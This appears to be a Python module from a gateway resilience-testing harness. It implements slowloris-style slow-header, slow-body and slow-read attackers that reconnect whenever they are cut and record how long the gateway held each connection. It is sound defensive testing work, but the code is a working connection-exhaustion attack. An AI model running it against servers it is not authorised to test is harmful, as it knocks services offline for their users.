"""Clients that hold a connection for as long as they are let, at next to no cost.

Knows three ways to be slow: sending a head, sending a body, and reading an answer. Refuses to know
when the gateway should end that: it notes how long each was held.
"""

from __future__ import annotations

import asyncio
import socket
import time
from collections import defaultdict
from dataclasses import dataclass, field
from typing import Literal, cast
from urllib.parse import urlsplit

from drills.crowd import Ask

Way = Literal["head", "body", "read"]

DRIP_S = 1.0
"""Between two bytes of a head or a body."""
RECEIVE_BUFFER_BYTES = 4096


@dataclass
class Gang:
    """Attackers of one gateway. Whoever is cut comes again at once.

    Args:
        url: the gateway's.
        ask: a good request, which the body and the read attack begin with.
    """

    url: str
    ask: Ask
    held_s: dict[Way, list[float]] = field(default_factory=lambda: defaultdict(list))
    """How long each was let, by its way."""
    members: set[Attacker] = field(default_factory=set)
    over: bool = False
    _left: asyncio.Event = field(default_factory=asyncio.Event)
    _joining: set[asyncio.Task[None]] = field(default_factory=set)

    async def join(self, way: Way) -> None:
        """Connect one more."""
        parts = urlsplit(self.url)
        own = socket.socket()
        own.setblocking(False)
        if way == "read":
            own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
        loop = asyncio.get_running_loop()
        try:
            await loop.sock_connect(own, (parts.hostname or "", parts.port or 0))
            await loop.create_connection(lambda: Attacker(self, way), sock=own)
        except OSError:  # cut before it could begin
            own.close()
        except BaseException:
            own.close()
            raise

    def cut(self, attacker: Attacker) -> None:
        """Note how long it lasted, and send another."""
        self.members.discard(attacker)
        self._left.set()
        if not self.over:
            self.held_s[attacker.way].append(time.monotonic() - attacker.began_s)
            joining = asyncio.get_running_loop().create_task(self.join(attacker.way))
            self._joining.add(joining)
            joining.add_done_callback(self._joining.discard)

    async def stop(self) -> None:
        """All leave, those that are still on their way in too."""
        self.over = True
        await asyncio.gather(*self._joining)
        for attacker in list(self.members):
            attacker.leave()
        while self.members:
            self._left.clear()
            await self._left.wait()


class Attacker(asyncio.Protocol):
    """One slow client."""

    def __init__(self, gang: Gang, way: Way) -> None:
        self.way = way
        self.began_s = time.monotonic()
        self._gang = gang
        self._loop = asyncio.get_running_loop()
        self._timer: asyncio.TimerHandle | None = None

    def leave(self) -> None:
        """Go."""
        self._transport.abort()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin, and become slow."""
        self._transport = cast("asyncio.Transport", transport)
        self._gang.members.add(self)
        head, end, body = self._gang.ask.raw("a").partition(b"\r\n\r\n")
        if self.way == "read":
            self._transport.write(head + end + body)
            # The loop begins to read after this call, whatever is said now.
            self._loop.call_soon(self._transport.pause_reading)
        elif self.way == "body":
            endless = head.replace(b"content-length: ", b"content-length: 1000")
            self._transport.write(endless + end)
            self._drip()
        else:
            self._transport.write(head + b"\r\nx: ")
            self._drip()

    def connection_lost(self, exc: Exception | None) -> None:
        """It was cut."""
        if self._timer is not None:
            self._timer.cancel()
        self._gang.cut(self)

    def _drip(self) -> None:
        self._transport.write(b"x")
        self._timer = self._loop.call_later(DRIP_S, self._drip)
